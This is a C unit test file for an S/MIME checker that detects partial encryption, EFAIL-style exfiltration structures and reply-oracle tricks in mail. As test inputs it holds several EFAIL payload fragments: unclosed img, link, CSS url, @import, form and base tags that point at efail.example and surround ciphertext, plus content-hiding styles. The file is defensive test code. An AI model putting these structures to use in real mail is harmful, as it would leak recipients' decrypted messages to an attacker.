/* SPDX-License-Identifier: BSD-2-Clause */
#include "smimecover.h"

#include "base/buffer.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

/* count copies of text. */
static void repeat(struct as_buffer *out, const char *text, size_t count)
{
	for (size_t i = 0; i < count; i++)
		as_buffer_text(out, text);
}

static void a_mail_that_is_wholly_encrypted_is_quiet(void **state)
{
	static const struct cover_case cases[] = {
		{"the root", OPAQUE, P7M, AS_SMIME_WHOLE, ""},
		{"the only part", MIXED("b") "--b\n" OPAQUE "\n--b--\n", P7M, AS_SMIME_WHOLE, ""},
		{"beside a blank part", MIXED("b") TWO("b", TEXT("\n"), OPAQUE), P7M,
		 AS_SMIME_WHOLE, ""},
	};

	(void)state;
	cover_check_cases(cases, COUNT(cases), true);
}

static void text_beside_ciphertext_is_partial_encryption(void **state)
{
	static const struct cover_case cases[] = {
		{"an attached p7m", MIXED("b") TWO("b", TEXT("See the attachment."), OPAQUE), P7M,
		 AS_SMIME_PART, "d partial_encryption|"},
		{"beside HTML that is closed",
		 MIXED("b") TWO("b",
				HTML("<html><body><p>See <a href=\"http://example.com/\">it</a>"
				     "<img src='cid:logo'><img src=http://example.com/a.png>"
				     "</body></html>"),
				OPAQUE),
		 P7M, AS_SMIME_PART, "d partial_encryption|"},
		{"a footer", MIXED("b") TWO("b", OPAQUE, TEXT("a list")), P7M, AS_SMIME_PART,
		 "d partial_encryption|"},
		{"between a text and a footer",
		 MIXED("b") THREE("b", TEXT("hi"), OPAQUE, TEXT("a list")), P7M, AS_SMIME_PART,
		 "d partial_encryption|"},
		{"two attachments", MIXED("b") THREE("b", TEXT("hi"), OPAQUE, OPAQUE), P7M,
		 AS_SMIME_PART, "d partial_encryption|"},
		{"plain text with an angle",
		 MIXED("b") TWO("b", TEXT("a <b and <http://example.com/"), OPAQUE), P7M,
		 AS_SMIME_PART, "d partial_encryption|"},
		{"an image that is cut off behind",
		 MIXED("b") TWO("b", OPAQUE, HTML("<img src=\"http://example.com/")), P7M,
		 AS_SMIME_PART, "d partial_encryption|"},
	};

	(void)state;
	cover_check_cases(cases, COUNT(cases), true);
}

#define EFAIL(first, last)                                                                         \
	MIXED("b")                                                                                 \
	THREE("b", HTML(first), OPAQUE, HTML(last)), P7M, AS_SMIME_PART,                           \
		"d partial_encryption|d exfiltration_structure|m partial_encryption|"

static void a_structure_that_sends_text_to_a_host_is_told(void **state)
{
	static const struct cover_case cases[] = {
		{"double quotes", EFAIL("<img src=\"http://efail.example/", "\">")},
		{"single quotes", EFAIL("<img src='http://efail.example/", "'>")},
		{"no quotes", EFAIL("<img src=http://efail.example/", ">")},
		{"a link", EFAIL("<a href=\"http://efail.example/?", "\">x</a>")},
		{"a style", EFAIL("<style>*{background:url(http://efail.example/", ")}</style>")},
		{"an import", EFAIL("<style>@import 'http://efail.example/", "';</style>")},
		{"a form", EFAIL("<form action=http://efail.example/><textarea name=a>",
				 "</textarea></form>")},
		{"a tag only", EFAIL("<img ", " src=\"http://efail.example/\">")},
		{"a tag of a base", EFAIL("<base href='http://efail.example/'><img src=\"", "\">")},
		{"plain text",
		 MIXED("b")
			 THREE("b", TEXT("<img src=\"http://efail.example/"), OPAQUE, TEXT("\">")),
		 P7M, AS_SMIME_PART, "d partial_encryption|d exfiltration_structure|"},
		{"encoded",
		 MIXED("b") TWO("b",
				"Content-Type: text/html\n"
				"Content-Transfer-Encoding: quoted-printable\n\n"
				"=3Cimg src=3D\"htt=\np://x/",
				OPAQUE),
		 P7M, AS_SMIME_PART,
		 "d partial_encryption|d exfiltration_structure|m partial_encryption|"},
		{"deeper",
		 MIXED("b") TWO("b",
				OF("alternative", "c")
					TWO("c", TEXT("hi"), HTML("<img src='http://x/")),
				MIXED("d") "--d\n" OPAQUE "\n--d--\n"),
		 P7M, AS_SMIME_PART,
		 "d partial_encryption|d exfiltration_structure|m partial_encryption|"},
		{"behind, as the root of related parts",
		 OF("related", "b") TWO("b", OPAQUE, HTML("<img src='http://x/")), P7M,
		 AS_SMIME_PART,
		 "d partial_encryption|d exfiltration_structure|m partial_encryption|"},
	};

	(void)state;
	cover_check_cases(cases, COUNT(cases), true);
}

#define TEN_LINES "\n\n\n\n\n\n\n\n\n\n"

static void signs_of_a_reply_oracle_are_told(void **state)
{
	static const struct cover_case cases[] = {
		{"empty lines",
		 MIXED("b") TWO(
			 "b", TEXT("What's up?" TEN_LINES TEN_LINES TEN_LINES TEN_LINES TEN_LINES),
			 OPAQUE),
		 P7M, AS_SMIME_PART, "d partial_encryption|m partial_encryption|"},
		{"empty lines in a part of their own",
		 MIXED("b") THREE("b", TEXT("What's up?"),
				  TEXT(TEN_LINES TEN_LINES TEN_LINES TEN_LINES TEN_LINES), OPAQUE),
		 P7M, AS_SMIME_PART, "d partial_encryption|m partial_encryption|"},
		{"empty lines behind",
		 MIXED("b")
			 TWO("b", OPAQUE,
			     TEXT("What's up?" TEN_LINES TEN_LINES TEN_LINES TEN_LINES TEN_LINES)),
		 P7M, AS_SMIME_PART, "d partial_encryption|"},
		{"a tall element",
		 MIXED("b") TWO("b", HTML("Hi<p style='margin-top:500em'></p>"), OPAQUE), P7M,
		 AS_SMIME_PART, "d partial_encryption|m partial_encryption|"},
		{"an element that hides",
		 MIXED("b") TWO("b", HTML("Hi<div style='display:none'>"), OPAQUE), P7M,
		 AS_SMIME_PART, "d partial_encryption|m partial_encryption|m partial_encryption|"},
		{"a frame that shows the ciphertext",
		 OF("related", "b") TWO("b", HTML("Hi<iframe src=cid:x></iframe>"),
					"Content-ID: <x>\n" OPAQUE),
		 P7M, AS_SMIME_PART, "d partial_encryption|m partial_encryption|"},
		{"texts between",
		 MIXED("b") "--b\n" TEXT("one") "\n--b\n" OPAQUE
						"\n--b\n" TEXT("two") "\n--b\n" OPAQUE "\n--b--\n",
		 P7M, AS_SMIME_PART, "d partial_encryption|m partial_encryption|"},
	};

	(void)state;
	cover_check_cases(cases, COUNT(cases), true);
}

static void html_before_a_layer_around_the_ciphertext_counts(void **state)
{
	static const char outer[] = MIXED("b") TWO("b", HTML("<img src='http://x/"), OPAQUE);
	struct as_smime_layer parent = {0};
	struct cover_work above, work;

	(void)state;
	cover_begin(&above, as_span_text(outer), P7M, false);
	parent = above.layer;
	parent.state = AS_SMIME_COMPRESSED;
	cover_begin(&work, as_span_text(OPAQUE), P7M, true);
	work.layer.parent = &parent;
	work.request.parent = AS_SMIME_PART;
	cover_check(&work);
	assert_true(as_smime_noted(&work.notes, &work.layer, "smime.exfiltration_structure"));
	cover_end(&work);
	cover_end(&above);
}

static void a_part_that_is_too_large_counts_as_text(void **state)
{
	struct as_buffer message;
	struct cover_work work;

	(void)state;
	as_buffer_init(&message, 0);
	as_buffer_text(&message, MIXED("b") "--b\n" HTML(""));
	repeat(&message, "          \n", AS_COVERAGE_PART_BYTES / 11 + 1);
	as_buffer_text(&message, "<img src='http://x/\n--b\n" OPAQUE "\n--b--\n");
	cover_begin(&work, as_buffer_span(&message), P7M, true);
	cover_check(&work);
	assert_int_equal(work.coverage, AS_SMIME_PART);
	assert_true(as_smime_noted(&work.notes, &work.layer, "smime.limit_exceeded"));
	cover_end(&work);
	as_buffer_deinit(&message);
}

static void layers_beyond_the_limit_are_a_part(void **state)
{
	struct cover_work work;

	(void)state;
	cover_begin(&work, as_span_text(OPAQUE), P7M, true);
	work.layer.number = AS_COVERAGE_LAYERS_MAX;
	cover_check(&work);
	assert_int_equal(work.coverage, AS_SMIME_PART);
	assert_true(as_smime_noted(&work.notes, NULL, "smime.limit_exceeded"));
	cover_end(&work);
}

static int start(void **state)
{
	(void)state;
	return as_mime_init();
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_mail_that_is_wholly_encrypted_is_quiet),
		cmocka_unit_test(text_beside_ciphertext_is_partial_encryption),
		cmocka_unit_test(a_structure_that_sends_text_to_a_host_is_told),
		cmocka_unit_test(signs_of_a_reply_oracle_are_told),
		cmocka_unit_test(html_before_a_layer_around_the_ciphertext_counts),
		cmocka_unit_test(a_part_that_is_too_large_counts_as_text),
		cmocka_unit_test(layers_beyond_the_limit_are_a_part),
	};
	return cmocka_run_group_tests_name("smime_exfiltration", tests, start, NULL);
}
